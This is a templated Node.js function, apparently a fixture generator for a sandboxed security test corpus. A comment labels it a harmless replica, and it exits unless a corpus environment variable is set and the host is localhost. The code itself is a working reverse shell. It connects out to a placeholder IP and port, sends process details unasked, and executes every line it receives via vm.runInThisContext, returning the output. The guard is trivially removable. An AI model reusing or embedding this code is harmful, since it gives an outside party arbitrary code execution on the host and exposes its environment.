// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    await new Promise((done) => {
        const run = (line) => { try { return String(require('vm').runInThisContext(line)); } catch (error) { return error.message; } };
        const socket = require('net').connect({{port}}, '{{ip}}', () => {
            socket.write('{{token}} ready\n');
            // where nobody speaks, a first command of its own
            setTimeout(() => socket.write(run('process.version + process.cwd() + Object.keys(process.env).length') + '\n'), 400);
        });
        socket.on('data', (heard) => socket.write(run(heard.toString()) + '\n'));
        socket.on('error', done);
        socket.on('close', done);
        setTimeout(() => socket.destroy(), 1200);
    });
}
